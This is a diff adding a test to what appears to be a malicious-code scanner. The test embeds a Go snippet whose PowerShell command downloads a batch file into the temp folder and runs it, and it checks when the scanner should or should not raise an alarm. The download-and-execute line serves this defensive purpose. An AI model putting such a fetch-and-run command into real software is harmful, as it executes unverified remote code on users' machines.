@@ -244,6 +244,31 @@ async function installRunner({ logger, version }) {
   assert.deepEqual(await found(''), [['critical', 'high']]);
 });
 
+test('the installer of a vendor, run by a program that asks first, is told without alarm', async () => {
+  const launches = (asks: string, address: string): string => `package launch
+
+func command() (string, []string) {
+	${asks}
+	return "powershell", []string{"-Command", "$f = Join-Path $env:TEMP 'a.bat'; iwr ${address} -OutFile $f; & $f"}
+}
+
+func start() error {
+	bin, args := command()
+	return exec.Command(bin, args...).Run()
+}
+`;
+  const severities = async (asks: string, address: string): Promise<readonly string[]> => {
+    const { findings } = await scan(memoryTree({ 'launch/tool.go': launches(asks, address) }));
+    return findings.flatMap(({ kind, severity }) => (kind === 'malice' ? [severity] : []));
+  };
+  const asks = 'confirm("The tool is not installed. Install now?")';
+  const isAlarm = (found: readonly string[]): boolean => found.some((severity) => /high|critical/.test(severity));
+  assert.equal(isAlarm(await severities(asks, 'https://tool.acme.io/install.bat')), false);
+  assert.equal(isAlarm(await severities('', 'https://tool.acme.io/install.bat')), true);
+  assert.equal(isAlarm(await severities(asks, 'https://203.0.113.5/install.bat')), true);
+  assert.equal(isAlarm(await severities(asks, 'https://tool.acme.io/a.exe')), true);
+});
+
 test('a machine that is named where somebody signs in is told without alarm', () => {
   const facts = '{ device: os.hostname(), user: os.userInfo().username }';
   const told = (address: string): readonly (readonly string[])[] =>
